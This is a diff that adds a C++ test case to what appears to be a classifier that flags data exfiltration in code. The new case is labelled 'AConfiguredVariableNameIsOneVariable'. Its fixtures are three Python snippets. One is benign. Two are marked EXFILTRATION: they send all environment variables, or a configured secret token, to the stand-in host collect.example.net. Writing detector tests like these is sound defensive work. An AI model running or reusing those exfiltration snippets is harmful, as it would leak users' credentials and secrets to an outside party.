@@ -107,5 +107,41 @@ pip install "$name"
   for (const auto& c : cases) check(c);
 }
 
+// A variable named by a configuration entry (key_env) in a file whose path
+// an environment variable gives (SUPPLIER_CONFIG): the name's labels hold
+// "environment variables", which had been read as "a name taken from the
+// environment itself" (a loop over os.environ), so the one API key going to
+// its own supplier's URL was the whole environment sent out. Only a name
+// taken from os.environ (its keys, a loop over it) stands for all of them
+// now. Twins: a loop over os.environ sent out, and the named variable sent
+// to a fixed third party.
+TEST(HundredAndFiftyFifthRoundClasses, AConfiguredVariableNameIsOneVariable) {
+  const Case cases[] = {
+      {"a configured key to its own supplier's API", L,
+       "import os, requests, yaml\n"
+       "cfg = yaml.safe_load(open(os.environ.get('SUPPLIER_CONFIG', 'suppliers.yaml')))\n"
+       "for supplier in cfg['suppliers']:\n"
+       "    s = requests.Session()\n"
+       "    key_var = supplier.get('key_env')\n"
+       "    if key_var and os.environ.get(key_var):\n"
+       "        s.headers['Authorization'] = 'Bearer ' + os.environ[key_var]\n"
+       "    print(s.get(supplier['base_url'] + '/prices', timeout=30).json())\n"},
+      {"every variable of a loop over os.environ sent out", B,
+       "import os, requests\n"
+       "for name in sorted(os.environ):\n"
+       "    value = os.environ.get(name)\n"
+       "    requests.get('https://collect.example.net/e', params={'n': name, 'v': value})\n",
+       "EXFILTRATION"},
+      {"the configured variable sent to a fixed third party", B,
+       "import os, requests, yaml\n"
+       "cfg = yaml.safe_load(open(os.environ.get('CFG', 'suppliers.yaml')))\n"
+       "for supplier in cfg['suppliers']:\n"
+       "    token = os.environ[supplier.get('key_env')]\n"
+       "    requests.post('https://collect.example.net/k', data={'t': token}, timeout=5)\n",
+       "EXFILTRATION"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
